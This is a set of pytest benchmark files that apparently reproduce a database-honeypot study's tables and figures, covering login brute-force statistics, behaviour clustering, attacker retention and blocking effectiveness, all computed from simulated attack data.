            results.append((name, profile, expected_tag))
        return results

    results = benchmark.pedantic(run_all, rounds=1, iterations=1)

    rows = []
    for name, profile, expected_tag in results:
        tags = tag_profile(profile)
        rows.append([name, len(profile.actions), ", ".join(sorted(tags))])
        assert expected_tag in tags, (name, tags)
    emit("s63_case_studies", format_table(
        ["Case study", "#Actions", "Tags"], rows))

    # The two ransom groups leave the two distinct note templates.
    ransom1 = results[5][1]
    ransom2 = results[6][1]
    assert ransom_templates(ransom1) == {"template-1"}
    assert ransom_templates(ransom2) == {"template-2"}
