"""Ablation: TF features vs binary (set-of-actions) features.

The paper's TF featurization counts duplicate actions; this bench
checks what is lost with binary features: behaviors that differ only in
action *frequency* (e.g. one login vs a hundred of the same login)
collapse together.
"""

from repro.core.clustering import AgglomerativeClustering
from repro.core.metrics import adjusted_rand_index
from repro.core.loading import action_sequences
from repro.core.reports import format_table
from repro.core.tf import TfVectorizer
from .conftest import CLUSTER_THRESHOLD


def test_ablation_features(benchmark, mid_profiles, emit):
    rows = []

    def run():
        results = {}
        for dbms in ("redis", "postgresql"):
            sequences = action_sequences(mid_profiles, dbms=dbms)
            ips = sorted(sequences)
            documents = [sequences[ip] for ip in ips]
            vectorizer = TfVectorizer().fit(documents)
            tf_matrix = vectorizer.transform(documents)
            binary_matrix = vectorizer.binary_transform(documents)
            tf_labels = AgglomerativeClustering(
                distance_threshold=CLUSTER_THRESHOLD).fit_predict(
                tf_matrix)
            binary_labels = AgglomerativeClustering(
                distance_threshold=CLUSTER_THRESHOLD).fit_predict(
                binary_matrix)
            agreement = adjusted_rand_index(tf_labels, binary_labels)
            results[dbms] = (len(ips), int(tf_labels.max()) + 1,
                             int(binary_labels.max()) + 1, agreement)
        return results

    results = benchmark.pedantic(run, rounds=1, iterations=1)

    for dbms, (n, tf_clusters, binary_clusters, ari) in results.items():
        rows.append([dbms, n, tf_clusters, binary_clusters,
                     f"{ari:.3f}"])
    emit("ablation_features", format_table(
        ["DBMS", "#IPs", "#Clusters (TF)", "#Clusters (binary)",
         "ARI(TF, binary)"], rows))

    for dbms, (_n, tf_clusters, binary_clusters, ari) in results.items():
        # Frequency information can only split clusters further.
        assert tf_clusters >= binary_clusters * 0.5
        assert binary_clusters >= 5
        # The two featurizations largely agree on the partition.
        assert ari > 0.5
