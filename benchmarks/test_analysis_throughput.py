"""Analysis-store throughput: cold vs. warm full report suite.

Three timed configurations over the same converted databases:

* **baseline** -- the pre-PR shape: every builder takes a database
  *path*, so each one opens its own connection and re-scans the events
  table (profiles are loaded once, as ``repro report`` used to).
* **cold** -- everything routed through :class:`AnalysisStore` with an
  empty cache: one columnar scan per database, derived artifacts built
  once and persisted.
* **warm** -- fresh stores over the now-populated cache: zero scans,
  every artifact deserialized from disk.

Writes ``benchmarks/_output/BENCH_analysis.json`` with wall times, the
cold per-stage breakdown (scan / profile build / TF / linkage), cache
hit counts, and the two speedups the acceptance criteria gate on:
warm >= 3x cold, cold no slower than baseline.  Also asserts the cold
and warm report texts are byte-identical.
"""

from __future__ import annotations

import json
import os
import platform
import time

from benchmarks.conftest import CLUSTER_THRESHOLD, OUTPUT_DIR, bench_scale
from repro.cli import report_text
from repro.core.bruteforce import credential_stats, logins_by_country
from repro.core.campaigns import campaign_summary
from repro.core.loading import load_ip_profiles
from repro.core.reports import (as_type_logins, asn_table,
                                classification_table, config_effect,
                                institutional_probing, single_vs_multi)
from repro.core.retention import retention_by_dbms, retention_overall
from repro.core.store import AnalysisStore
from repro.core.temporal import hourly_series, per_dbms_series


def _run_suite(low, midhigh, profiles):
    """The full report suite against path-or-store sources.

    ``profiles`` is the mid/high profile map -- loaded once for the
    baseline (as the pre-PR ``repro report`` did), served from the
    store's cache in the store configurations.
    """
    results = [
        hourly_series(low),
        per_dbms_series(low),
        logins_by_country(low, top=10),
        credential_stats(low, "mssql"),
        asn_table(low, top=10),
        as_type_logins(low),
        single_vs_multi(low),
        config_effect(low),
        classification_table(
            midhigh if isinstance(midhigh, AnalysisStore) else profiles,
            distance_threshold=CLUSTER_THRESHOLD),
        campaign_summary(profiles),
        retention_by_dbms(profiles),
        retention_overall(profiles),
        institutional_probing(profiles),
    ]
    return results


def _timed_suite(low, midhigh):
    start = time.perf_counter()
    if isinstance(midhigh, AnalysisStore):
        profiles = midhigh.profiles()
    else:
        profiles = load_ip_profiles(midhigh)
    _run_suite(low, midhigh, profiles)
    text = (report_text(low, midhigh, bench_scale())
            if isinstance(low, AnalysisStore) else None)
    return time.perf_counter() - start, text


def test_analysis_store_throughput(experiment, emit):
    low_db, mid_db = experiment.low_db, experiment.midhigh_db

    # Pre-PR shape: per-builder connections and scans off the raw paths.
    baseline_seconds, _ = _timed_suite(low_db, mid_db)

    # Cold: empty cache, one scan per database, artifacts persisted.
    with AnalysisStore(low_db) as low, AnalysisStore(mid_db) as midhigh:
        low.clear_cache(), midhigh.clear_cache()
        cold_seconds, cold_text = _timed_suite(low, midhigh)
        cold_stats = {"low": dict(low.stats), "midhigh": dict(midhigh.stats)}
        assert low.stats["scans"] + midhigh.stats["scans"] <= 3, \
            "cold run should scan each database about once"

    # Warm: fresh stores, populated cache, zero scans.
    with AnalysisStore(low_db) as low, AnalysisStore(mid_db) as midhigh:
        warm_seconds, warm_text = _timed_suite(low, midhigh)
        warm_stats = {"low": dict(low.stats), "midhigh": dict(midhigh.stats)}
        assert low.stats["scans"] == midhigh.stats["scans"] == 0, \
            "warm run must not scan the events table"

    assert warm_text == cold_text, \
        "cold and warm report outputs must be byte-identical"

    stages = {"scan": sum(s["scan_seconds"]
                          for s in cold_stats.values())}
    for stage, kind in (("profile_build", "profiles"), ("tf", "tf"),
                        ("linkage", "linkage")):
        stages[stage] = sum(s["build_seconds"].get(kind, 0.0)
                            for s in cold_stats.values())

    snapshot = {
        "bench": {
            "scale": bench_scale(),
            "seed": experiment.config.seed,
            "python": platform.python_version(),
            "platform": platform.platform(),
            "cpu_count": os.cpu_count(),
        },
        "events_total": experiment.events_total,
        "baseline_seconds": baseline_seconds,
        "cold_seconds": cold_seconds,
        "warm_seconds": warm_seconds,
        "speedup_warm_vs_cold": cold_seconds / warm_seconds,
        "speedup_cold_vs_baseline": baseline_seconds / cold_seconds,
        "cold_stage_seconds": stages,
        "cache": {"cold": cold_stats, "warm": warm_stats},
        "outputs_identical": True,
    }
    OUTPUT_DIR.mkdir(exist_ok=True)
    path = OUTPUT_DIR / "BENCH_analysis.json"
    path.write_text(json.dumps(snapshot, indent=2) + "\n",
                    encoding="utf-8")

    emit("analysis_throughput", "\n".join([
        f"baseline (per-builder scans): {baseline_seconds:8.3f}s",
        f"cold (store, empty cache):    {cold_seconds:8.3f}s "
        f"({snapshot['speedup_cold_vs_baseline']:.2f}x baseline)",
        f"warm (store, cached):         {warm_seconds:8.3f}s "
        f"({snapshot['speedup_warm_vs_cold']:.2f}x cold)",
        "cold stages: " + ", ".join(
            f"{name}={seconds:.3f}s" for name, seconds in stages.items()),
    ]))

    # The acceptance gates: warm >= 3x cold; cold no slower than the
    # per-builder-scan baseline (small tolerance for timer noise).
    assert warm_seconds * 3 <= cold_seconds, snapshot
    assert cold_seconds <= baseline_seconds * 1.05, snapshot
