"""Table 7: AS types of the sources attempting logins.

Paper shape: Hosting providers lead (286 IPs, 59.2% of logins), Telecom
second (103), with a sizable Unknown group (148).
"""

from repro.core.reports import as_type_logins, format_table


def test_table7_as_types(benchmark, experiment, emit):
    counts = benchmark(lambda: as_type_logins(experiment.low_db))

    emit("table7_as_types", format_table(
        ["AS type", "#IPs attempting logins"],
        [[as_type, count] for as_type, count in counts.items()]))

    assert max(counts, key=counts.get) == "Hosting"
    assert counts["Hosting"] > counts.get("Telecom", 0)
    assert counts.get("Telecom", 0) > 0
    assert counts.get("Unknown", 0) > 0
    # Security companies barely brute-force (Constantine's odd 202
    # logins give Security a small non-zero presence).
    assert counts.get("Security", 0) <= 10
    assert sum(counts.values()) == 599
