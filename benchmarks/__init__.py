"""Benchmark suite: one bench per table/figure of the paper."""
