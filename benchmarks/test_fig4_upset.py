"""Figure 4: intersections of IPs across the medium/high honeypots.

Paper shape: PostgreSQL sees the most unique IPs (1,955), MongoDB and
Elasticsearch beat Redis despite fewer instances, most IPs touch a
single honeypot family, and an RDP-scanning cohort spans Redis and
PostgreSQL.
"""

from repro.core.intersections import upset_intersections
from repro.core.reports import format_table


def test_fig4_upset(benchmark, mid_profiles, emit):
    upset = benchmark(lambda: upset_intersections(mid_profiles))

    totals = upset.per_family_totals()
    emit("fig4_upset", format_table(
        ["Combination", "#IPs"], [list(row) for row in upset.rows()])
        + "\nper-family totals: " + ", ".join(
            f"{family}={count}" for family, count in sorted(
                totals.items()))
        + f"\ntotal unique: {upset.total_unique()}"
        + f"\nsingle-family fraction: "
          f"{upset.single_family_fraction():.2f}")

    assert totals == {"elasticsearch": 1237, "mongodb": 1233,
                      "postgresql": 1955, "redis": 980}
    assert totals["postgresql"] == max(totals.values())
    assert totals["redis"] == min(totals.values())
    assert upset.single_family_fraction() > 0.7
    assert upset.count("postgresql", "redis") >= 10  # RDP cohort
    assert 3400 <= upset.total_unique() <= 4000  # paper: 3,665
