"""Section 6.1: the manual cluster-review pass.

The paper manually reassigned a small number of source IPs whose
behavior disagreed with their cluster (Redis 25, Elasticsearch 11,
MongoDB 5, PostgreSQL 53).  The automated review emulates that check;
the bench reports how many IPs it moves per honeypot.
"""

from repro.core.reports import cluster_dbms, format_table
from repro.core.review import review_clusters
from .conftest import CLUSTER_THRESHOLD


def test_s61_cluster_review(benchmark, mid_profiles, emit):
    def review_all():
        results = {}
        for dbms in ("elasticsearch", "mongodb", "postgresql", "redis"):
            labels = cluster_dbms(mid_profiles, dbms,
                                  distance_threshold=CLUSTER_THRESHOLD)
            results[dbms] = review_clusters(mid_profiles, labels, dbms)
        return results

    results = benchmark.pedantic(review_all, rounds=1, iterations=1)

    paper = {"elasticsearch": 11, "mongodb": 5, "postgresql": 53,
             "redis": 25}
    emit("s61_cluster_review", format_table(
        ["DBMS", "Clusters", "Reassigned", "Paper reassigned"],
        [[dbms, result.cluster_count, result.reassigned_count,
          paper[dbms]]
         for dbms, result in sorted(results.items())]))

    for dbms, result in results.items():
        # A small fraction of the population needs correction, as in
        # the paper (5-53 IPs per honeypot).
        assert result.reassigned_count <= 80
        # Review never destroys clusters, only splits them.
        assert result.cluster_count >= len(
            set(cluster_dbms(mid_profiles, dbms,
                             distance_threshold=CLUSTER_THRESHOLD
                             ).values()))
