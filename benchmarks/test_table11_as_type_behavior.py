"""Table 11: AS types against behavior classes (medium/high tier).

Paper shape: Hosting dominates every class (and especially exploiting,
264 of 324); Telecom contributes a large scanning share; Security
companies scout but never exploit.
"""

from repro.core.classification import BehaviorClass
from repro.core.reports import as_type_behavior, format_table


def test_table11_as_type_behavior(benchmark, mid_profiles, emit):
    table = benchmark(lambda: as_type_behavior(mid_profiles))

    emit("table11_as_type_behavior", format_table(
        ["AS type", "Scanning", "Scouting", "Exploiting"],
        [[as_type, row[BehaviorClass.SCANNING],
          row[BehaviorClass.SCOUTING], row[BehaviorClass.EXPLOITING]]
         for as_type, row in sorted(table.items())]))

    hosting = table["Hosting"]
    assert hosting[BehaviorClass.EXPLOITING] == max(
        row[BehaviorClass.EXPLOITING] for row in table.values())
    # Security companies do not exploit (the paper's positive finding).
    assert table.get("Security", {}).get(BehaviorClass.EXPLOITING,
                                         0) == 0
    # Telecom carries a substantial scanning share.
    assert table["Telecom"][BehaviorClass.SCANNING] > 100
    total_exploiting = sum(row[BehaviorClass.EXPLOITING]
                           for row in table.values())
    assert total_exploiting == 324
    assert hosting[BehaviorClass.EXPLOITING] / total_exploiting > 0.5
