"""Figure 5: client retention CDF per behavior class (medium/high).

Paper shape: scanners are short-lived, scouts show more sustained
engagement, and exploiting IPs are by far the most persistent --
justifying the paper's advice that blocking exploiting IPs pays off
most.
"""

from repro.core.classification import BehaviorClass, classify_ips
from repro.core.plotting import cdf_chart
from repro.core.reports import format_table
from repro.core.retention import retention_by_class


def test_fig5_midhigh_retention_cdf(benchmark, mid_profiles, emit):
    classifications = classify_ips(mid_profiles)
    cdfs = benchmark(lambda: retention_by_class(mid_profiles,
                                                classifications))

    charts = "\n\n".join(
        f"{cls.value}:\n"
        + cdf_chart([(float(d), f) for d, f in cdf.points], height=8,
                    label="days active")
        for cls, cdf in cdfs.items() if cdf.points)
    emit("fig5_midhigh_retention_cdf", format_table(
        ["Class", "#IP", "P(<=1d)", "P(<=3d)", "P(<=7d)", "mean days"],
        [[cls.value, cdf.population, f"{cdf.at(1):.2f}",
          f"{cdf.at(3):.2f}", f"{cdf.at(7):.2f}",
          f"{cdf.mean_days():.2f}"]
         for cls, cdf in cdfs.items()]) + "\n\n" + charts)

    scan = cdfs[BehaviorClass.SCANNING]
    scout = cdfs[BehaviorClass.SCOUTING]
    exploit = cdfs[BehaviorClass.EXPLOITING]
    assert exploit.mean_days() > scout.mean_days() > scan.mean_days()
    # Exploiters keep returning: almost none are single-day actors.
    assert exploit.at(1) < 0.15
    assert scan.at(1) > 0.5
    assert exploit.population == 324
