"""Live-telemetry overhead: sharded replay with the metrics bus off vs on.

The live operations plane must be observationally free (same events,
asserted below) and cheap: the per-visit cost is one clock read, and
each emission is one registry snapshot + delta + queue put.  This bench
times the same 4-worker replay twice -- without ops wiring and with a
0.1s streaming interval -- and snapshots the wall-time ratio to
``BENCH_live.json`` so regressions in the hot path show up as a ratio
drift.
"""

from __future__ import annotations

import json
import os
import platform
from time import perf_counter

from repro import obs
from repro.agents.population import build_world
from repro.core.reports import format_table
from repro.deployment.plan import build_plan
from repro.deployment.replay import (OpsOptions, build_engine,
                                     compile_visits)
from repro.obs import live as obs_live

from .conftest import OUTPUT_DIR

WORKERS = 4
EMIT_INTERVAL = 0.1


def live_scale() -> float:
    return float(os.environ.get("REPRO_BENCH_REPLAY_SCALE", "0.001"))


def _run(seed: float, scale: float, *, live: bool) -> dict:
    # Fresh plan/world per run: honeypots mutate during replay.
    plan = build_plan(seed=seed)
    world = build_world(seed=seed, volume_scale=scale)
    schedule = compile_visits(world, plan, seed)
    engine = build_engine(WORKERS)
    telemetry = obs.Telemetry(enabled=True)
    ops = None
    if live:
        ops = OpsOptions(live=True, emit_interval=EMIT_INTERVAL,
                         aggregator=obs_live.LiveAggregator())
    started = perf_counter()
    with obs.install(telemetry):
        outcomes = list(engine.replay(schedule, plan, seed, telemetry,
                                      ops))
    wall = perf_counter() - started
    events = sum(len(outcome.events) for outcome in outcomes)
    run = {
        "live": live,
        "visits": len(schedule),
        "events": events,
        "wall_seconds": round(wall, 3),
        "events_per_second": round(events / wall, 1),
    }
    if live:
        run["emissions"] = engine.stats["live"]["emissions"]
        run["equals_merged"] = engine.stats["live"]["equals_merged"]
    return run


def test_live_streaming_overhead(emit):
    seed = int(os.environ.get("REPRO_BENCH_SEED", "2024"))
    scale = live_scale()
    baseline = _run(seed, scale, live=False)
    streamed = _run(seed, scale, live=True)
    ratio = round(streamed["wall_seconds"] / baseline["wall_seconds"], 3)

    snapshot = {
        "bench": {
            "scale": scale,
            "seed": seed,
            "workers": WORKERS,
            "emit_interval": EMIT_INTERVAL,
            "cpu_count": os.cpu_count(),
            "python": platform.python_version(),
            "platform": platform.platform(),
        },
        "baseline": baseline,
        "live": streamed,
        "overhead_ratio": ratio,
    }
    OUTPUT_DIR.mkdir(exist_ok=True)
    (OUTPUT_DIR / "BENCH_live.json").write_text(
        json.dumps(snapshot, indent=2) + "\n", encoding="utf-8")

    emit("live_overhead", format_table(
        ["Mode", "Wall (s)", "Events/s", "Emissions"],
        [["off", f"{baseline['wall_seconds']:.3f}",
          f"{baseline['events_per_second']:.0f}", "-"],
         ["on", f"{streamed['wall_seconds']:.3f}",
          f"{streamed['events_per_second']:.0f}",
          str(streamed["emissions"])]])
        + f"\noverhead ratio: {ratio:.3f}x")

    # Live streaming is observation only: same events either way, and
    # the streamed aggregate reconstructs the merged registry exactly.
    assert streamed["events"] == baseline["events"]
    assert streamed["emissions"] >= WORKERS
    assert streamed["equals_merged"] is True
