"""Table 3: honeypot families, interaction levels and capture classes."""

from repro.core.reports import format_table
from repro.honeypots.catalog import CATALOG


def test_table3_honeypot_catalog(benchmark, emit):
    def build():
        return format_table(
            ["Honeypot", "Level", "Simulates", "Captures"],
            [[e.honeypot, e.level, ", ".join(e.simulates),
              ", ".join(e.captures)] for e in CATALOG])

    emit("table3_honeypot_catalog", benchmark(build))

    levels = {e.honeypot: e.level for e in CATALOG}
    assert levels["qeeqbox"] == "Low"
    assert levels["mongodb-honeypot"] == "High"
    # Only the medium/high tiers capture exploitation.
    for entry in CATALOG:
        assert ("E" in entry.captures) == (entry.level != "Low")
