"""Section 6.2: payoff of blocking by behavior class.

Quantifies the paper's advice that blocking exploiting IPs is far more
effective than blocking scanners or scouts: exploiters keep returning,
so a block at first sighting prevents a much larger share of their
future activity.
"""

from repro.core.blocking import blocking_effectiveness
from repro.core.classification import BehaviorClass
from repro.core.reports import format_table


def test_s62_blocking_effectiveness(benchmark, experiment, mid_profiles,
                                    emit):
    rows = benchmark(lambda: blocking_effectiveness(
        experiment.midhigh_db, mid_profiles))

    emit("s62_blocking_effectiveness", format_table(
        ["Class", "#IPs", "Events", "Prevented", "Prevented %",
         "Mean return days"],
        [[row.behavior_class.value, row.ips, row.total_events,
          row.prevented_events, f"{row.prevented_fraction:.0%}",
          f"{row.mean_return_days:.2f}"] for row in rows]))

    by_class = {row.behavior_class: row for row in rows}
    exploit = by_class[BehaviorClass.EXPLOITING]
    scout = by_class[BehaviorClass.SCOUTING]
    scan = by_class[BehaviorClass.SCANNING]
    assert exploit.prevented_fraction > scout.prevented_fraction
    assert exploit.prevented_fraction > scan.prevented_fraction
    assert exploit.mean_return_days > scan.mean_return_days
    assert exploit.ips == 324
