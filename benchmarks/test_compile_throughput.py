"""Schedule compilation and session hot-path throughput.

Times the two sides the indexed deployment plan optimised:

* ``compile_visits`` alone (best of 3, fresh plan each time so the
  pool registry starts cold), with the plan's ``select_calls`` counter
  -- the indexed plan resolves each ``(dbms, scope)`` target pool once
  per plan, where the pre-refactor linear scan performed one
  ``select()`` sweep per behavior compile (~33k at this scale);
* one full serial ``run_experiment`` (best of 2), the end-to-end
  number the per-session event fast lane moves.

Results are snapshotted to ``BENCH_schedule.json`` next to the other
bench artifacts.  The recorded baselines were measured on this same
container immediately before the refactor (best of 3, scale 2e-4,
seed 2024), so the speedup columns are honest for comparable hardware
-- ``cpu_count``/``python``/``platform`` travel with the numbers so a
reader can tell.
"""

from __future__ import annotations

import json
import os
import platform
from time import perf_counter

from repro.agents.population import build_world
from repro.core.reports import format_table
from repro.deployment import ExperimentConfig, run_experiment
from repro.deployment.plan import build_plan
from repro.deployment.replay import compile_visits

from .conftest import OUTPUT_DIR

#: Pre-refactor walls, best of 3 at scale 2e-4 / seed 2024, measured
#: from a checkout of the commit preceding this refactor on the same
#: container minutes before the optimised numbers were recorded (so
#: both sides saw the same machine conditions).  The pre-refactor code
#: used a linear-scan ``select()`` per behavior compile, per-event
#: ``asdict`` JSON, unbatched writer queues, and maintained every
#: index during the bulk insert.
BASELINE_COMPILE_SECONDS = 2.143
BASELINE_END_TO_END_SECONDS = 12.089

#: Ceiling on plan lookups per compile.  The indexed plan performs a
#: couple of dozen; the pre-refactor compile performed one per behavior
#: (~33k at this scale), so the budget fails loudly if pooled target
#: selection ever regresses to per-behavior scans.
SELECT_CALLS_BUDGET = 256


def schedule_scale() -> float:
    return float(os.environ.get("REPRO_BENCH_SCHEDULE_SCALE", "0.0002"))


def test_compile_and_replay_throughput(emit, tmp_path):
    seed = int(os.environ.get("REPRO_BENCH_SEED", "2024"))
    scale = schedule_scale()

    world = build_world(seed=seed, volume_scale=scale)
    compile_walls = []
    visits = select_calls = 0
    for _ in range(3):
        plan = build_plan(seed=seed)  # fresh plan: cold pool registry
        started = perf_counter()
        schedule = compile_visits(world, plan, seed)
        compile_walls.append(perf_counter() - started)
        visits = len(schedule)
        select_calls = plan.select_calls
    compile_wall = min(compile_walls)

    e2e_walls = []
    events_total = 0
    for attempt in range(2):
        started = perf_counter()
        result = run_experiment(ExperimentConfig(
            seed=seed, volume_scale=scale,
            output_dir=tmp_path / f"run{attempt}"))
        e2e_walls.append(perf_counter() - started)
        events_total = result.events_total
    e2e_wall = min(e2e_walls)

    snapshot = {
        "bench": {
            "scale": scale,
            "seed": seed,
            "cpu_count": os.cpu_count(),
            "python": platform.python_version(),
            "platform": platform.platform(),
        },
        "compile": {
            "wall_seconds": round(compile_wall, 3),
            "walls": [round(wall, 3) for wall in compile_walls],
            "visits": visits,
            "visits_per_second": round(visits / compile_wall, 1),
            "select_calls": select_calls,
            "select_calls_budget": SELECT_CALLS_BUDGET,
            "baseline_wall_seconds": BASELINE_COMPILE_SECONDS,
            "speedup_vs_baseline": round(
                BASELINE_COMPILE_SECONDS / compile_wall, 2),
        },
        "end_to_end": {
            "wall_seconds": round(e2e_wall, 3),
            "walls": [round(wall, 3) for wall in e2e_walls],
            "events": events_total,
            "events_per_second": round(events_total / e2e_wall, 1),
            "baseline_wall_seconds": BASELINE_END_TO_END_SECONDS,
            "speedup_vs_baseline": round(
                BASELINE_END_TO_END_SECONDS / e2e_wall, 2),
        },
    }
    OUTPUT_DIR.mkdir(exist_ok=True)
    (OUTPUT_DIR / "BENCH_schedule.json").write_text(
        json.dumps(snapshot, indent=2) + "\n", encoding="utf-8")

    emit("compile_throughput", format_table(
        ["Stage", "Wall (s)", "Throughput", "Baseline (s)", "Speedup"],
        [["compile_visits", f"{compile_wall:.3f}",
          f"{visits / compile_wall:,.0f} visits/s",
          f"{BASELINE_COMPILE_SECONDS:.3f}",
          f"{BASELINE_COMPILE_SECONDS / compile_wall:.2f}x"],
         ["run_experiment", f"{e2e_wall:.3f}",
          f"{events_total / e2e_wall:,.0f} events/s",
          f"{BASELINE_END_TO_END_SECONDS:.2f}",
          f"{BASELINE_END_TO_END_SECONDS / e2e_wall:.2f}x"]]))

    # The lookup budget is deterministic (unlike the walls): the pooled
    # selection must never regress to per-behavior plan scans.
    assert select_calls <= SELECT_CALLS_BUDGET
    assert visits > 0 and events_total > 0
    assert compile_wall > 0 and e2e_wall > 0
