"""Ablation: volume-scale invariance of the table shapes.

The reproduction scales the paper's 18.2M login attempts by
``volume_scale``; the headline *shapes* (who wins, by what proportion)
must not depend on the chosen scale.  Two small runs at a 4x scale
difference are compared.
"""

from repro.core.bruteforce import credential_stats, logins_by_country
from repro.core.reports import format_table
from repro.deployment import ExperimentConfig, run_experiment


def test_ablation_scale(benchmark, tmp_path_factory, emit):
    def run(scale: float):
        output = tmp_path_factory.mktemp(f"scale-{scale}")
        result = run_experiment(ExperimentConfig(
            seed=31337, volume_scale=scale, output_dir=output))
        rows = logins_by_country(result.low_db, top=3)
        mssql = credential_stats(result.low_db, "mssql")
        total = sum(credential_stats(result.low_db, d).total_attempts
                    for d in ("mssql", "mysql", "postgresql"))
        return {
            "top_countries": [row.country for row in rows],
            "mssql_share": mssql.total_attempts / total,
            "russia_share": rows[0].logins / max(
                1, sum(row.logins for row in rows)),
            "top_user": mssql.top_usernames[0][0],
        }

    def run_both():
        return run(0.0002), run(0.0008)

    small, large = benchmark.pedantic(run_both, rounds=1, iterations=1)

    emit("ablation_scale", format_table(
        ["Metric", "scale=0.0002", "scale=0.0008"],
        [["top-3 countries", ", ".join(small["top_countries"]),
          ", ".join(large["top_countries"])],
         ["MSSQL login share", f"{small['mssql_share']:.3f}",
          f"{large['mssql_share']:.3f}"],
         ["Russia share of top-3", f"{small['russia_share']:.3f}",
          f"{large['russia_share']:.3f}"],
         ["top username", small["top_user"], large["top_user"]]]))

    assert small["top_countries"][0] == large["top_countries"][0] == \
        "Russia"
    assert abs(small["mssql_share"] - large["mssql_share"]) < 0.05
    assert small["top_user"] == large["top_user"] == "sa"
