"""Extension: the van Liebergen et al. MySQL-ransom comparison (§3).

The paper's closest related work deployed 5 interactive MySQL honeypots
and collected ransom notes in 3 unique templates from 62 attacker IPs
(the paper itself saw 2 templates from 62 IPs on MongoDB).  This bench
replays that deployment with the extension medium-interaction MySQL
honeypot: 62 ransom actors across the 3 templates against 5 instances.
"""

import random

from repro.agents.base import VisitContext
from repro.agents.exploits.mysql_attacks import (MYSQL_RANSOM_TEMPLATES,
                                                 make_mysql_ransom_script)
from repro.core.reports import format_table
from repro.honeypots.base import MemoryWire, SessionContext
from repro.honeypots.mysql_medium import MediumInteractionMySQL
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import EventType, LogStore

ATTACKERS = 62
INSTANCES = 5


def test_ext_mysql_ransom(benchmark, emit):
    def deploy_and_attack():
        clock = SimClock()
        store = LogStore()
        honeypots = [MediumInteractionMySQL(f"vl-mysql-{index}")
                     for index in range(INSTANCES)]
        rng = random.Random(62)
        for attacker in range(ATTACKERS):
            ip = f"198.51.{attacker // 200}.{attacker % 200 + 1}"
            honeypot = rng.choice(honeypots)
            template = attacker % len(MYSQL_RANSOM_TEMPLATES)

            def opener(target_key=None, _hp=honeypot, _ip=ip):
                return MemoryWire(_hp, SessionContext(
                    _ip, 40000, clock, store.append))

            clock.advance(hours=rng.randint(1, 6))
            make_mysql_ransom_script(template)(VisitContext(
                opener=opener, target_key="mysql", rng=rng))
        return store, honeypots

    store, honeypots = benchmark.pedantic(deploy_and_attack, rounds=1,
                                          iterations=1)

    # Notes *observed* = every ransom insert the honeypots logged
    # (later attackers drop and replace earlier notes, as the paper
    # also saw on MongoDB).
    observed = [event for event in store
                if event.event_type == EventType.QUERY.value
                and event.action == "INSERT"
                and "README_TO_RECOVER" in (event.raw or "")]
    unique_templates = {event.raw for event in observed}
    attacker_ips = {event.src_ip for event in store
                    if event.event_type == EventType.QUERY.value}
    surviving = sum(len(honeypot.tables.get("README_TO_RECOVER", []))
                    for honeypot in honeypots)

    emit("ext_mysql_ransom", format_table(
        ["Metric", "van Liebergen et al.", "Reproduced"],
        [["honeypot instances", 5, INSTANCES],
         ["attacker hosts", 62, len(attacker_ips)],
         ["ransom notes observed", 131, len(observed)],
         ["unique note templates", 3, len(unique_templates)],
         ["notes surviving on disk", "n/a", surviving]])
        + "\n(131 vs 62: their actors revisited; ours strike once)")

    assert len(attacker_ips) == 62
    assert len(observed) == 62
    assert len(unique_templates) == 3
    # Later attackers dropped earlier notes: at most one note table per
    # instance survives.
    assert surviving <= INSTANCES
