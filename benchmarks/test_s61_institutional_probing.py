"""Section 6.1: institutional scanners learn about database content.

Paper shape: most medium/high scanners are institutional (456/608 on
Elasticsearch, 415/706 on MongoDB, 909/1140 on PostgreSQL, 379/676 on
Redis), and a notable share of institutional actors goes beyond
liveness checks -- listDatabases/listCollections on MongoDB, content
URLs on Elasticsearch -- the privacy concern the paper raises.
"""

from repro.core.reports import format_table, institutional_probing


def test_s61_institutional_probing(benchmark, mid_profiles, emit):
    rows = benchmark(lambda: institutional_probing(mid_profiles))

    emit("s61_institutional_probing", format_table(
        ["DBMS", "Scanners", "inst. scanners", "inst. scouting",
         "deep-probing inst. IPs", "top deep actions"],
        [[row.dbms, row.scanners, row.institutional_scanners,
          row.institutional_scouting, row.deep_probing_ips,
          ", ".join(f"{action} x{count}" for action, count in sorted(
              row.deep_actions.items(), key=lambda i: -i[1])[:3])]
         for row in rows]))

    by_dbms = {row.dbms: row for row in rows}
    # Institutional fractions among scanners (paper: 75/59/80/56%).
    assert by_dbms["elasticsearch"].institutional_scanners == 456
    assert by_dbms["mongodb"].institutional_scanners == 415
    assert by_dbms["postgresql"].institutional_scanners == 909
    assert by_dbms["redis"].institutional_scanners == 379
    # Institutional scouting exists and includes content-revealing
    # probing on MongoDB and Elasticsearch.
    assert by_dbms["mongodb"].deep_probing_ips > 50
    assert "listDatabases" in by_dbms["mongodb"].deep_actions
    assert "listCollections" in by_dbms["mongodb"].deep_actions
    assert by_dbms["elasticsearch"].deep_probing_ips > 20
