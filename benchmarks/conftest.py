"""Benchmark fixtures.

One downscaled 20-day experiment is generated per session (the
``experiment`` fixture); every bench reproduces one table or figure of
the paper from its SQLite databases, times the analysis step via
pytest-benchmark, prints the regenerated rows, and writes them to
``benchmarks/_output/`` (the source for EXPERIMENTS.md).

The experiment runs with telemetry enabled and its ``run_report.json``
manifest is snapshotted to ``benchmarks/_output/BENCH_telemetry.json``
-- the performance baseline subsequent optimisation PRs compare against
(phase wall-times, event volumes, bytes exchanged, peak RSS).

Environment knobs:

* ``REPRO_BENCH_SCALE`` -- login-volume scale factor (default 0.002,
  i.e. 1/500 of the paper's 18.2M login attempts),
* ``REPRO_BENCH_SEED`` -- master seed (default 2024).
"""

from __future__ import annotations

import json
import os
import platform
from pathlib import Path

import pytest

from repro.core.loading import load_ip_profiles
from repro.core.reports import cluster_dbms
from repro.deployment import ExperimentConfig, run_experiment

OUTPUT_DIR = Path(__file__).parent / "_output"

#: Clustering cut threshold used throughout the benches.
CLUSTER_THRESHOLD = 0.1


def bench_scale() -> float:
    return float(os.environ.get("REPRO_BENCH_SCALE", "0.002"))


@pytest.fixture(scope="session")
def experiment(tmp_path_factory):
    """The shared experiment run (telemetry on; see module docstring)."""
    output = tmp_path_factory.mktemp("bench-experiment")
    config = ExperimentConfig(
        seed=int(os.environ.get("REPRO_BENCH_SEED", "2024")),
        volume_scale=bench_scale(),
        output_dir=output,
        telemetry=True)
    result = run_experiment(config)
    _write_telemetry_baseline(result)
    return result


def _write_telemetry_baseline(result) -> None:
    """Snapshot the run manifest as the ``BENCH_telemetry.json`` baseline."""
    OUTPUT_DIR.mkdir(exist_ok=True)
    snapshot = {
        "bench": {
            "scale": bench_scale(),
            "seed": result.config.seed,
            "python": platform.python_version(),
            "platform": platform.platform(),
        },
